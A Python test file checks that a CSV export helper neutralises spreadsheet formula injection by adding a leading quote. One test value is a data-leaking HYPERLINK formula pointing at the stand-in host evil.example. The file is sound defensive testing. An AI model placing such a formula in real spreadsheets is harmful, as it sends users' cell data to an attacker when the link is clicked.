"""Spreadsheet cells: text that a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import pytest

from models.cells import csv_cell, looks_like_formula


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")',
         '\'=HYPERLINK("http://evil.example/?leak="&A2,"詳細はこちら")'),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-1+2", "'-1+2"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "-"),  # the placeholder for nothing stays as people expect it
        ("", ""),
        ("公民館 2階", "公民館 2階"),
        ("090-1234-5678", "090-1234-5678"),
        (12, 12),
        (-3, -3),  # numbers stay numbers
    ],
)
def test_a_cell_that_would_be_a_formula_gets_a_leading_quote(value: object, cell: object
                                                               ) -> None:
    assert csv_cell(value) == cell
    assert looks_like_formula(value) == (cell != value)
